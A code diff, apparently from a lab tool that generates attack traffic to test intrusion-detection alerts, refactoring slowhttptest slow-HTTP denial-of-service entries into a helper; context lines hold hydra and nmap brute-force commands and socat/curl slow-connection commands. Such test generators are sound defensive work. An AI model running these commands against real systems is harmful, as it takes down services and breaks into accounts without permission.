@@ -58,6 +58,26 @@ function hold(tool: string, commandOf: (host: string) => string): Attack {
   };
 }
 
+/** Slow attacks in the way that `options` say, with 150 connections, `rate` new ones a second. */
+function slowHttp(name: string, options: string, path: string): Attack {
+  return {
+    class: name,
+    alerts: ['dos.slow'],
+    technique: 'T1499.002',
+    tool: 'slowhttptest',
+    needs: ['slowhttptest'],
+    speeds: { fast: [50, 200], medium: [20, 40] },
+    plan: (site, rate) =>
+      single(
+        'evil',
+        `slowhttptest ${options} -c 150 -r ${Math.round(rate)} -l 15 -u http://${site.address('web')}${path}`,
+        [site.address('evil')],
+        [site.address('web')],
+        25,
+      ),
+  };
+}
+
 export const loginsAndTunnels: readonly Attack[] = [
   guess('hydra', 'ssh', 'files', (_site, tries, words, target) => `hydra -I -l root -P ${words} -t ${Math.min(tries, 8)} ssh://${target}`),
   guess(
@@ -87,22 +107,7 @@ export const loginsAndTunnels: readonly Attack[] = [
     (_site, tries, words, target) =>
       `nmap -n -Pn -p 21 --max-parallelism ${Math.min(tries, 8)} --script ftp-brute --script-args userdb=${words},passdb=${words} ${target}`,
   ),
-  {
-    class: 'slow-http',
-    alerts: ['dos.slow'],
-    technique: 'T1499.002',
-    tool: 'slowhttptest',
-    needs: ['slowhttptest'],
-    speeds: { fast: [50, 200], medium: [20, 40] },
-    plan: (site, rate) =>
-      single(
-        'evil',
-        `slowhttptest -H -c 150 -r ${Math.round(rate)} -i 5 -l 15 -u http://${site.address('web')}/`,
-        [site.address('evil')],
-        [site.address('web')],
-        25,
-      ),
-  },
+  slowHttp('slow-http', '-H -i 5', '/'),
   {
     class: 'slow-http',
     alerts: ['dos.slow'],
@@ -130,40 +135,10 @@ export const loginsAndTunnels: readonly Attack[] = [
   hold('socat', (host) => `(printf 'GET '; sleep 18) | socat -t 1 - TCP:${host}:80`),
   // A form whose body comes a few bytes at a time.
   hold('curl', (host) => `head -c 4000 /dev/zero | curl -s -m 18 --limit-rate 10 -H 'Expect:' -T - http://${host}/form`),
-  {
-    class: 'slow-http.body',
-    alerts: ['dos.slow'],
-    technique: 'T1499.002',
-    tool: 'slowhttptest',
-    needs: ['slowhttptest'],
-    speeds: { fast: [50, 200], medium: [20, 40] },
-    // The body that never ends.
-    plan: (site, rate) =>
-      single(
-        'evil',
-        `slowhttptest -B -c 150 -r ${Math.round(rate)} -i 4 -l 15 -s 8192 -u http://${site.address('web')}/form`,
-        [site.address('evil')],
-        [site.address('web')],
-        25,
-      ),
-  },
-  {
-    class: 'slow-http.read',
-    alerts: ['dos.slow'],
-    technique: 'T1499.002',
-    tool: 'slowhttptest',
-    needs: ['slowhttptest'],
-    speeds: { fast: [50, 200], medium: [20, 40] },
-    // The answer that is never read.
-    plan: (site, rate) =>
-      single(
-        'evil',
-        `slowhttptest -X -c 150 -r ${Math.round(rate)} -w 512 -y 1024 -n 5 -z 32 -l 15 -u http://${site.address('web')}/big.bin`,
-        [site.address('evil')],
-        [site.address('web')],
-        25,
-      ),
-  },
+  // The body that never ends.
+  slowHttp('slow-http.body', '-B -i 4 -s 8192', '/form'),
+  // The answer that is never read.
+  slowHttp('slow-http.read', '-X -w 512 -y 1024 -n 5 -z 32', '/big.bin'),
   {
     class: 'dns-tunnel',
     alerts: ['dns.tunnel'],
